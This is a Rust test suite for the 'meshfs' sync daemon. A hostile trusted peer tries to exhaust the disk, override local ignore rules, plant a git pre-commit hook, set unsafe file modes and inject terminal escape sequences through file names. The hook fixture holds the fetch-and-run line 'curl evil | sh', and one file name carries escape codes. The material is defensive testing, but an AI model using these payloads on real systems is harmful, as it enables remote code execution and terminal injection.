//! A trusted peer turned hostile, second pass (#45): the disk, the user's own ignore rules,
//! modes, and the text it gets printed. Each test is driven by a hostile client built on the
//! protocol crate (`common::hostile::Mallory`) against a real daemon.
//!
//! | item | attack | test |
//! |---|---|---|
//! | disk (a) | two records each declaring 0.6 × the free space, in batches back to back | `declared_sizes_never_take_the_reserve_and_status_and_an_honest_folder_go_on` |
//! | disk (b) | a known 4 MiB chunk listed ⌊free / 4 MiB⌋ − 20 times | as disk (a) |
//! | ignore rules | a megabyte of `.meshignore` globset cannot compile, then a file the local rules ignore | `a_shared_ignore_file_that_does_not_compile_leaves_the_local_rules_in_force` |
//! | ignored paths | a version at a locally ignored path (`.git/hooks/pre-commit`, 0755) | `a_version_at_a_locally_ignored_path_is_skipped_and_shown_never_written` |
//! | modes | world-writable and 0o000 directories, a world-writable file | `remote_modes_get_the_umask_and_never_lock_the_owner_out` |
//! | printed text | a name holding terminal escape sequences | `names_from_a_peer_are_printed_escaped` |
//! | config modes | `init`, `folder add`, `peer add` under umask 022 | `the_config_and_its_directory_are_the_owners_alone_after_every_command` |

use crate::common;
use common::hostile::*;
use common::*;
use meshfs_protocol::*;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

const MIB: u64 = 1 << 20;

/// The reserve the daemon keeps on a filesystem of `total` bytes (`room::reserve_of`).
fn reserve_of(total: u64) -> u64 {
    (total / 50).clamp(4 * MIB, 256 * MIB)
}

/// (free bytes for unprivileged writers, total bytes) of the filesystem holding `p`.
fn space(p: &std::path::Path) -> (u64, u64) {
    let c = std::ffi::CString::new(p.to_str().unwrap()).unwrap();
    let mut st = std::mem::MaybeUninit::<libc::statvfs>::uninit();
    // SAFETY: `c` is NUL-terminated and outlives the call; `st` is writable memory of the
    // type statvfs fills.
    assert_eq!(unsafe { libc::statvfs(c.as_ptr(), st.as_mut_ptr()) }, 0);
    // SAFETY: statvfs succeeded, so it filled `st`.
    let st = unsafe { st.assume_init() };
    (st.f_bavail * st.f_frsize, st.f_blocks * st.f_frsize)
}

/// A record of `path` listing `chunk` (a 4 MiB chunk) `n` times.
fn repeated(path: &str, chunk: &[u8], n: usize, v: VersionVector, by: ShortId) -> FileRecord {
    let mut r = file_record(path, b"", v, by);
    r.chunks = vec![
        Chunk {
            len: chunk.len() as u32,
            hash: Hash::of(chunk),
        };
        n
    ];
    r.size = n as u64 * chunk.len() as u64;
    r.hash = Hash::of_chunks(&r.chunks);
    r
}

/// The folder `id`'s part of a status document.
fn folder<'a>(st: &'a serde_json::Value, id: &str) -> &'a serde_json::Value {
    st["folders"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == id)
        .unwrap_or_else(|| panic!("no folder {id} in {st}"))
}

/// Folder `work`'s skipped list: (path, error).
fn skipped(dev: &Device) -> Vec<(String, String)> {
    let st = dev.status();
    folder(&st, "work")["skipped"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .map(|s| {
            (
                s["path"].as_str().unwrap_or_default().to_string(),
                s["error"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect()
}

/// Watches the victim while an attack runs: the lowest free space seen on its disk, and how
/// long each `meshfs status` took to answer.
struct Watch {
    stop: Arc<AtomicBool>,
    min_free: Arc<AtomicU64>,
    threads: Vec<std::thread::JoinHandle<Vec<Duration>>>,
}

impl Watch {
    fn start(disk: &std::path::Path, home: &std::path::Path) -> Watch {
        let stop = Arc::new(AtomicBool::new(false));
        let min_free = Arc::new(AtomicU64::new(u64::MAX));
        let (d, s, m) = (disk.to_path_buf(), stop.clone(), min_free.clone());
        let free = std::thread::spawn(move || {
            while !s.load(Ordering::Relaxed) {
                m.fetch_min(space(&d).0, Ordering::Relaxed);
                std::thread::sleep(Duration::from_millis(2));
            }
            Vec::new()
        });
        let (h, s) = (home.to_path_buf(), stop.clone());
        let status = std::thread::spawn(move || {
            let mut took = Vec::new();
            while !s.load(Ordering::Relaxed) {
                let t0 = Instant::now();
                let out = meshfs(&h, &["status", "--json"]);
                took.push(t0.elapsed());
                assert!(out.status.success(), "status failed during the attack");
                std::thread::sleep(Duration::from_millis(20));
            }
            took
        });
        Watch {
            stop,
            min_free,
            threads: vec![free, status],
        }
    }

    /// (lowest free bytes seen, status answer times sorted).
    fn finish(self) -> (u64, Vec<Duration>) {
        self.stop.store(true, Ordering::Relaxed);
        let mut took: Vec<Duration> = self
            .threads
            .into_iter()
            .flat_map(|t| t.join().unwrap())
            .collect();
        took.sort();
        (self.min_free.load(Ordering::Relaxed), took)
    }
}

/// The victim `a` lives wholly (home, journal, replicas) on a 256 MiB tmpfs, with folder
/// `work` shared with mallory only and folder `other` with the honest peer `b` only.
#[test]
fn declared_sizes_never_take_the_reserve_and_status_and_an_honest_folder_go_on() {
    let t = tmp();
    let disk = SmallDisk::mount(&t.path().join("a"), 256);
    let mut a = Device::new(&t, "a");
    let mut b = Device::new(&t, "b");
    let a_other = t.path().join("a").join("other");
    let b_other = t.path().join("b").join("other");
    for (d, dir) in [(&a, &a_other), (&b, &b_other)] {
        std::fs::create_dir_all(dir).unwrap();
        ok(
            &d.home,
            &["folder", "add", dir.to_str().unwrap(), "--id", "other"],
        );
    }
    for (x, y) in [(&a, &b), (&b, &a)] {
        ok(
            &x.home,
            &[
                "peer", "add", &y.id, "--addr", &y.addr, "--name", &y.name, "--share", "other",
            ],
        );
    }
    let mallory = trusted_mallory(&a);
    // Paused where a record's local chunks are about to be copied (no lock held since #45):
    // many.bin's copy, to sync the other folder meanwhile; big1.bin's, so that big2.bin is
    // decided while big1.bin has written nothing.
    a.arm("apply.copying@many.bin=pause,apply.copying@big1.bin=pause");
    Device::start_together(&mut [&mut a, &mut b]);
    let rt = tokio::runtime::Runtime::new().unwrap();
    let mut m = rt.block_on(Mallory::connect(&a, &mallory));
    let by = m.short();
    let honest = |n: &str| {
        let rel = format!("honest-{n}.txt");
        write(&b_other.join(&rel), n.as_bytes());
        let t0 = Instant::now();
        while std::fs::read(a_other.join(&rel)).ok().as_deref() != Some(n.as_bytes()) {
            assert!(
                t0.elapsed() < Duration::from_secs(30),
                "the honest peer's folder stopped syncing ({n}):\n{}",
                a.log()
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    };
    honest("before");

    // A chunk the victim then holds: one 4 MiB file.
    let known = noise(MAX_CHUNK_LEN as usize, 1);
    let rec = repeated("known.bin", &known, 1, version(&[(by, 1)]), by);
    rt.block_on(m.send_batch(vec![rec], vec![inline(&known)]))
        .unwrap();
    wait_until(30, "known.bin arrives", &a, || {
        std::fs::metadata(a.path("known.bin")).is_ok_and(|m| m.len() == known.len() as u64)
    });

    let (free0, total) = space(&a.dir);
    let reserve = reserve_of(total);
    let watch = Watch::start(&a.dir, &a.home);

    // (b) The known chunk listed ⌊free / 4 MiB⌋ − 20 times: copied here, not fetched.
    let n = (free0 / u64::from(MAX_CHUNK_LEN)) as usize - 20;
    let many = repeated("many.bin", &known, n, version(&[(by, 2)]), by);
    rt.block_on(m.send_batch(vec![many], vec![])).unwrap();
    a.wait_paused("apply.copying@many.bin", 30);
    honest("during-copy");
    a.resume("apply.copying@many.bin");
    wait_until(60, "many.bin is installed", &a, || {
        std::fs::metadata(a.path("many.bin")).is_ok_and(|m| m.len() == n as u64 * MIB * 4)
    });

    // (a) Two records each declaring 0.6 × the free space, sharing one inline chunk, in
    // batches back to back: the second is decided before the first has written anything.
    let (free1, _) = space(&a.dir);
    let k = ((free1 * 6 / 10) / u64::from(MAX_CHUNK_LEN)) as usize;
    for (i, name) in ["big1.bin", "big2.bin"].iter().enumerate() {
        let r = repeated(name, &known, k, version(&[(by, 3 + i as u64)]), by);
        rt.block_on(m.send_batch(vec![r], vec![])).unwrap();
    }
    a.wait_paused("apply.copying@big1.bin", 30);
    // big2.bin is refused now, big1.bin's room being promised (without a running total it
    // would pass, and both be written once big1.bin goes on): waited for at most 20 s.
    let t0 = Instant::now();
    while !a.log().contains("No space left on device") && t0.elapsed() < Duration::from_secs(20) {
        std::thread::sleep(Duration::from_millis(50));
    }
    a.resume("apply.copying@big1.bin");
    wait_until(60, "one of them is refused for want of room", &a, || {
        a.log().contains("No space left on device")
    });
    honest("after-refusal");
    let (min_free, took) = watch.finish();
    let p99 = took[(took.len() * 99 / 100).min(took.len() - 1)];
    let written: Vec<_> = ["big1.bin", "big2.bin"]
        .iter()
        .filter(|p| a.path(p).exists())
        .collect();
    eprintln!(
        "tmpfs {} MiB: free {} MiB at the start, {} MiB before (a); lowest seen {} KiB, reserve {} KiB; many.bin {n} x 4 MiB, big*.bin {k} x 4 MiB each, written: {written:?}; status: {} answers, median {:?}, p99 {:?}, max {:?}",
        total / MIB,
        free0 / MIB,
        free1 / MIB,
        min_free / 1024,
        reserve / 1024,
        took.len(),
        took[took.len() / 2],
        p99,
        took[took.len() - 1]
    );
    assert!(
        min_free >= reserve,
        "free space fell to {min_free} bytes, below the reserve of {reserve}"
    );
    // The refusal fails the session, and the batch before it with it: the first is received
    // again when the peer comes back (mallory does not).
    assert!(written.len() <= 1, "both 0.6 x free records were written");
    // Its speed is a figure (printed above, quoted in bench/README.md), not asserted here: a
    // shared machine's load moves it. That it kept answering is asserted.
    assert!(
        took.len() >= 5 && took[took.len() - 1] < Duration::from_secs(10),
        "status stopped answering during the attack: {} answers, the slowest {:?}",
        took.len(),
        took.last()
    );
    drop(m);
    drop(a);
    drop(b);
    drop(disk);
}

#[test]
fn a_version_at_a_locally_ignored_path_is_skipped_and_shown_never_written() {
    let mut s = Scene::new();
    write(&s.a.home.join("ignore").join("work"), b".git/\nsecret/\n");
    s.start();
    let mut m = s.connect();
    let by = m.short();
    let mut hook = file_record(
        ".git/hooks/pre-commit",
        b"#!/bin/sh\ncurl evil | sh\n",
        version(&[(by, 1)]),
        by,
    );
    hook.mode = 0o755;
    let key = file_record("secret/key.txt", b"theirs", version(&[(by, 2)]), by);
    let fine = file_record("fine.txt", b"fine", version(&[(by, 3)]), by);
    s.rt.block_on(m.send_batch(
        vec![hook, key, fine],
        vec![
            inline(b"#!/bin/sh\ncurl evil | sh\n"),
            inline(b"theirs"),
            inline(b"fine"),
        ],
    ))
    .unwrap();
    wait_until(30, "the rest of the batch applies", &s.a, || {
        s.a.path("fine.txt").exists()
    });
    wait_until(10, "both ignored versions are shown", &s.a, || {
        skipped(&s.a).len() >= 2
    });
    assert!(!s.a.path(".git").exists(), "a hook was written");
    assert!(!s.a.path("secret").exists());
    let sk = skipped(&s.a);
    for p in [".git/hooks/pre-commit", "secret/key.txt"] {
        assert!(
            sk.iter()
                .any(|(path, e)| path == p && e.contains("ignored on this device")),
            "{p} not shown as skipped: {sk:?}"
        );
    }
    s.honest_peer_syncs("after");
}

#[test]
fn a_shared_ignore_file_that_does_not_compile_leaves_the_local_rules_in_force() {
    let mut s = Scene::new();
    write(&s.a.home.join("ignore").join("work"), b"secret*\n");
    s.start();
    let mut m = s.connect();
    let by = m.short();
    // A megabyte of distinct wildcard lines: more than globset compiles into one matcher.
    let mut text = String::new();
    let mut i = 0u64;
    while text.len() < (1 << 20) - 64 {
        text.push_str(&format!("*{i:x}*?[a-f]{}*\n", i * 7919));
        i += 1;
    }
    let ig = file_record(".meshignore", text.as_bytes(), version(&[(by, 1)]), by);
    s.rt.block_on(m.send_batch(vec![ig], vec![inline(text.as_bytes())]))
        .unwrap();
    wait_until(60, "the shared file arrives", &s.a, || {
        std::fs::metadata(s.a.path(".meshignore")).is_ok_and(|m| m.len() == text.len() as u64)
    });
    wait_until(
        60,
        "the shared file is reported as not compiled",
        &s.a,
        || s.a.log().contains("could not be compiled"),
    );
    // Shown in status as the folder's last error.
    let st = s.a.status();
    assert!(
        folder(&st, "work")["last_error"]["message"]
            .as_str()
            .is_some_and(|e| e.contains("could not be compiled")),
        "{st}"
    );
    let key = file_record("secret.key", b"theirs", version(&[(by, 2)]), by);
    let fine = file_record("fine.txt", b"fine", version(&[(by, 3)]), by);
    s.rt.block_on(m.send_batch(vec![key, fine], vec![inline(b"theirs"), inline(b"fine")]))
        .unwrap();
    wait_until(60, "the rest of the batch applies", &s.a, || {
        s.a.path("fine.txt").exists()
    });
    assert!(
        !s.a.path("secret.key").exists(),
        "the local rules were switched off"
    );
    // A local file the local rules ignore stays here.
    write(&s.a.path("secret-local.txt"), b"mine");
    s.honest_peer_syncs("after");
    assert!(!s.b.path("secret-local.txt").exists());
}

#[test]
fn remote_modes_get_the_umask_and_never_lock_the_owner_out() {
    use std::os::unix::fs::PermissionsExt;
    let mut s = Scene::new();
    s.start();
    let mut m = s.connect();
    let by = m.short();
    let dir = |path: &str, mode: u32, n: u64| FileRecord {
        kind: FileKind::Dir,
        mode,
        ..file_record(path, b"", version(&[(by, n)]), by)
    };
    let mut open_file = file_record("open/f.txt", b"open", version(&[(by, 3)]), by);
    open_file.mode = 0o666;
    let locked_file = file_record("locked/g.txt", b"locked", version(&[(by, 4)]), by);
    s.rt.block_on(m.send_batch(
        vec![
            dir("open", 0o777, 1),
            dir("locked", 0o000, 2),
            open_file,
            locked_file,
        ],
        vec![inline(b"open"), inline(b"locked")],
    ))
    .unwrap();
    wait_until(30, "every record applies", &s.a, || {
        s.a.path("locked/g.txt").exists() && s.a.path("open/f.txt").exists()
    });
    let mode = |p: &str| {
        std::fs::symlink_metadata(s.a.path(p))
            .unwrap()
            .permissions()
            .mode()
            & 0o7777
    };
    assert_eq!(mode("open"), 0o755, "a world-writable directory");
    assert_eq!(mode("open/f.txt"), 0o644, "a world-writable file");
    assert_eq!(mode("locked"), 0o700, "a directory of mode 000");
    // A later version below the 000 directory still applies.
    let again = file_record("locked/g.txt", b"again", version(&[(by, 5)]), by);
    s.rt.block_on(m.send_batch(vec![again], vec![inline(b"again")]))
        .unwrap();
    wait_until(30, "a later version below it applies", &s.a, || {
        std::fs::read(s.a.path("locked/g.txt")).ok().as_deref() == Some(b"again".as_slice())
    });
    // What the umask changed is not taken for a local edit: the records keep the modes sent.
    s.honest_peer_syncs("after");
    let journal = s.a.journal(&[]);
    let by_a: Vec<_> = journal
        .iter()
        .filter(|e| {
            ["open", "open/f.txt", "locked"].contains(&e["path"].as_str().unwrap_or(""))
                && e["modified_by"]
                    .as_str()
                    .is_some_and(|b| b.starts_with(&s.a.id[..7]))
        })
        .collect();
    assert!(
        by_a.is_empty(),
        "local versions made of the umask: {by_a:?}"
    );
}

#[test]
fn names_from_a_peer_are_printed_escaped() {
    let mut s = Scene::new();
    write(&s.a.home.join("ignore").join("work"), b"ign/\n");
    s.start();
    let mut m = s.connect();
    let by = m.short();
    let evil = "ign/\u{1b}]0;pwned\u{7}\u{1b}[2Jx.txt";
    let rec = file_record(evil, b"x", version(&[(by, 1)]), by);
    let fine = file_record("fine.txt", b"fine", version(&[(by, 2)]), by);
    s.rt.block_on(m.send_batch(vec![rec, fine], vec![inline(b"x"), inline(b"fine")]))
        .unwrap();
    wait_until(30, "the name is shown as skipped", &s.a, || {
        skipped(&s.a).iter().any(|(p, _)| p == evil)
    });
    for args in [&["status"][..], &["status", "work", "--pending"][..]] {
        let out = meshfs(&s.a.home, args);
        assert!(out.status.success(), "{args:?}");
        assert!(
            !out.stdout.iter().any(|b| *b == 0x1b || *b == 0x07),
            "{args:?} printed a control character raw:\n{}",
            String::from_utf8_lossy(&out.stdout)
        );
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("ign/"),
            "{args:?} does not show the path:\n{}",
            String::from_utf8_lossy(&out.stdout)
        );
    }
}

#[test]
fn the_config_and_its_directory_are_the_owners_alone_after_every_command() {
    use std::os::unix::fs::PermissionsExt;
    let t = tmp();
    let home = t.path().join("home");
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    // SAFETY: umask only sets this process's file creation mask.
    let old = unsafe { libc::umask(0o022) };
    let check = |after: &str| {
        assert_eq!(
            mode(&home.join("config.toml")),
            0o600,
            "config after {after}"
        );
        assert_eq!(mode(&home), 0o700, "config dir after {after}");
        assert_eq!(
            mode(&home.join("ignore")),
            0o700,
            "ignore dir after {after}"
        );
    };
    ok(&home, &["init", "--name", "x", "--listen", "127.0.0.1:0"]);
    check("init");
    let dir = t.path().join("replica");
    std::fs::create_dir_all(&dir).unwrap();
    ok(
        &home,
        &["folder", "add", dir.to_str().unwrap(), "--id", "work"],
    );
    check("folder add");
    let peer = meshfs_daemon::identity::Identity::generate()
        .unwrap()
        .device_id
        .to_string();
    ok(&home, &["peer", "add", &peer, "--share", "work"]);
    check("peer add");
    // SAFETY: as above.
    unsafe { libc::umask(old) };
}
